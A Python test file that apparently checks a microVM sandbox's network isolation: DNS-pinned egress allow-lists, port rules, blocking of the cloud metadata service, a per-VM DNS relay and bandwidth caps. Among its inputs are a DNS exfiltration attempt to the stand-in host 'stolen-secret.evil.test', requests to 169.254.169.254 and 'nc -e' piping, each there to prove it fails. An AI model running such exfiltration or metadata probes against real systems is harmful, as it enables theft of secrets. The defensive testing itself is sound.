"""Allow-lists, the names on them, the relay that asks for those, and the rate at which all of it goes."""

import json
import os
import sys
import threading
import time
import unittest
from concurrent.futures import ThreadPoolExecutor
from typing import Any, Callable, List, Tuple

from .network import lab
from .network.case import NetworkTestCase, connected, sent_by
from .network.lab import run
from .support import limits

WEB, OTHER = "198.51.100.1", "198.51.100.2"


def load_tests(loader: Any, tests: unittest.TestSuite, pattern: Any) -> unittest.TestSuite:
    return lab.load(__name__, tests)


class AllowLists(NetworkTestCase):
    def test_names_are_pinned_to_what_the_vm_was_answered(self) -> None:
        vm = self.connected({"egress": ["web.test"]})
        # Not before its name was asked for.
        self.assertEqual(self.reason(vm, "http://{}/".format(WEB), timeout=5), "unreachable")
        self.assertEqual(self.get(vm, "http://web.test/")["status"], 200)
        self.assertEqual(self.get(vm, "http://{}/".format(WEB))["status"], 200)
        self.assertEqual(self.reason(vm, "http://{}/".format(OTHER), timeout=5), "unreachable")
        self.assertEqual(self.reason(vm, "http://other.test/"), "dns")
        pinned = [item for item in json.loads(run("nft --json list ruleset"))["nftables"] if "set" in item]
        names = next(item["set"] for item in pinned if item["set"]["name"].startswith("names_"))
        element = names["elem"][0]["elem"]
        self.assertEqual(element["val"], WEB)
        self.assertIn(element["timeout"], range(60, 7201))

    def test_aliases_and_patterns_lead_to_their_addresses(self) -> None:
        vm = self.connected({"egress": ["www.web.test", "*.sub.test"]})
        self.assertEqual(self.get(vm, "http://www.web.test/")["status"], 200)
        self.assertEqual(self.get(vm, "http://a.sub.test/")["status"], 200)
        self.assertEqual(self.reason(vm, "http://web.test/"), "dns")
        self.assertEqual(self.reason(vm, "http://sub.test/"), "dns")

    def test_ports_hold_for_names_and_for_networks(self) -> None:
        vm = self.connected({"egress": ["web.test:80", "198.51.100.2/32:80"]})
        self.assertEqual(self.get(vm, "http://web.test/")["status"], 200)
        self.assertEqual(self.reason(vm, "http://web.test:5003/", timeout=5), "unreachable")
        self.assertEqual(self.get(vm, "http://{}/".format(OTHER))["status"], 200)
        self.assertEqual(self.reason(vm, "http://{}:5003/".format(OTHER), timeout=5), "unreachable")
        self.fails(vm, "ping -c 1 -W 1 {}".format(OTHER))

    def test_networks_without_ports_allow_everything_to_there(self) -> None:
        vm = self.connected({"egress": ["198.51.100.0/24"]})
        self.sh(vm, "ping -c 1 -W 5 {}".format(WEB))
        self.assertEqual(self.get(vm, "http://{}/".format(OTHER))["status"], 200)
        self.fails(vm, "ping -c 1 -W 1 8.8.8.8")
        # Its own server lies in the network: a VM may ask it itself.
        self.assertIn(WEB, self.sh(vm, "nslookup -type=a web.test 198.51.100.53"))

    def test_empty_list_leaves_the_gateway_alone(self) -> None:
        vm = self.connected({"egress": []})
        gateway = vm.get_info()["network_config"]["gateway"]
        self.sh(vm, "ping -c 1 -W 5 {}".format(gateway))
        self.assertEqual(self.reason(vm, "http://web.test/"), "dns")
        self.assertEqual(self.reason(vm, "http://{}/".format(WEB), timeout=5), "unreachable")
        self.assertEqual(vm.get_info()["network_config"]["egress"], [])

    def test_name_that_leads_to_the_metadata_service_leads_nowhere(self) -> None:
        vm = self.connected({"egress": ["metadata.test", "0.0.0.0/0"]})
        self.assertEqual(self.get(vm, "http://{}/".format(OTHER))["status"], 200)
        self.assertEqual(self.reason(vm, "http://metadata.test/", timeout=2), "timeout")
        self.assertEqual(self.reason(vm, "http://169.254.169.254/", timeout=2), "timeout")

    def test_names_outside_of_the_list_are_asked_of_nobody(self) -> None:
        vm = self.connected({"egress": ["web.test"], "dns_servers": ["8.8.8.8"]})
        self.assertEqual(self.reason(vm, "http://stolen-secret.web.test/"), "dns")
        self.fails(vm, "nslookup -type=txt stolen-secret.evil.test")
        # Nor of its server by another way than the relay.
        self.fails(vm, "nslookup -type=a stolen-secret.evil.test 8.8.8.8", timeout=30)
        self.get(vm, "http://web.test/")
        self.assertEqual(self.lab.order("log")["names"], ["web.test 1"])


class Relays(NetworkTestCase):
    def test_relay_passes_answers_on_by_both_transports(self) -> None:
        vm = self.connected()
        self.assertEqual(self.get(vm, "http://long.test/")["status"], 200)
        self.assertEqual([name for name in self.lab.order("log")["names"] if "long" in name], ["long.test 1"] * 2)
        self.assertEqual(self.reason(vm, "http://no-such-name.test/"), "dns")

    def test_relay_answers_without_ipv6(self) -> None:
        vm = self.connected()
        self.fails(vm, "nslookup -type=aaaa web.test | grep -q 2001:db8")
        self.assertEqual(self.lab.order("log")["names"], [])

    def test_server_that_is_dead_gives_an_answer_in_the_end(self) -> None:
        vm = self.connected({"dns_servers": ["127.0.0.1"]})
        begun = time.monotonic()
        self.assertEqual(self.reason(vm, "http://web.test/"), "dns")
        self.assertLess(time.monotonic() - begun, 20)
        alive = self.connected({"dns_servers": ["127.0.0.1", "198.51.100.53"]})
        self.assertEqual(self.get(alive, "http://web.test/")["status"], 200)

    def test_many_questions_at_once_are_all_answered(self) -> None:
        vm = self.connected({"egress": ["*.test"]})
        answers: List[Any] = []

        def ask(number: int) -> None:
            answers.append(vm.send_command("process_request", {"url": "http://a.sub.test/{}".format(number)}))

        threads = [threading.Thread(target=ask, args=(number,)) for number in range(30)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        self.assertEqual([a for a in answers if a is None or a["status"] != "ok"], [])

    def test_relay_serves_its_own_vm_alone(self) -> None:
        vm, other = self.connected(), self.connected()
        gateway = other.get_info()["network_config"]["gateway"]
        self.fails(vm, "nslookup -type=a web.test {}".format(gateway), timeout=30)
        self.assertEqual(self.lab.order("log")["names"], [])


class Bandwidth(NetworkTestCase):
    """Frames by the second, at the border: what the internet received, and what the host sent to the tap."""

    WARM_S, WINDOW_S = 2.0, 6.0

    def start(self, vm: Any, script: str) -> None:
        self.sh(vm, "setsid {} >/dev/null 2>&1 &".format(script))

    def rate(self, count: Callable[[], Tuple[int, float]]) -> float:
        """Mbit/s, from bytes and the time at which they were counted."""
        time.sleep(self.WARM_S)
        begun = count()
        time.sleep(self.WINDOW_S)
        ended = count()
        return (ended[0] - begun[0]) * 8 / (ended[1] - begun[1]) / 1e6

    def received(self) -> Tuple[int, float]:
        total, when = self.lab.order("received")
        # 1448 of a full frame's 1514 bytes are the program's.
        return int(total * 1514 / 1448), when

    def rate_from(self, vm: Any) -> float:
        # dd itself has the connection as its output: nc's own buffer is small.
        self.start(vm, "nc {} 5001 -e dd if=/dev/zero bs=64k".format(WEB))
        rate = self.rate(self.received)
        self.sh(vm, "killall dd; true")
        return rate

    def rate_to(self, vm: Any) -> float:
        tap = vm.get_info()["network_config"]["tap_device"]
        self.start(vm, "nc {} 5002 -e dd of=/dev/null bs=64k".format(WEB))
        rate = self.rate(lambda: (sent_by(tap), time.monotonic()))
        self.sh(vm, "killall dd; true")
        return rate

    def test_rate_is_held_in_both_directions(self) -> None:
        # What this machine can move at all: an emulated one, as in tests/nested, says less.
        for rate in (4, int(os.environ.get("MICROVM_TEST_MBPS", "40"))):
            vm = self.running(network_config=connected(), resource_limits=limits(network_bandwidth_mbps=rate))
            rates = self.rate_from(vm), self.rate_to(vm)
            print("    {} Mbit/s: {:.1f} from the VM, {:.1f} to it".format(rate, *rates), file=sys.stderr)
            with self.subTest(rate=rate):
                self.assertAlmostEqual(rates[0], rate, delta=rate * 0.1)
                self.assertAlmostEqual(rates[1], rate, delta=rate * 0.1)
            self.manager.destroy_vm(vm.vm_id)

    def test_vms_do_not_share_their_rates(self) -> None:
        small = limits(network_bandwidth_mbps=8)
        vms = [self.running(network_config=connected(), resource_limits=small) for _ in range(3)]
        with ThreadPoolExecutor(len(vms)) as pool:
            for rate in pool.map(self.rate_to, vms):
                self.assertAlmostEqual(rate, 8, delta=0.8)


if __name__ == "__main__":
    unittest.main()
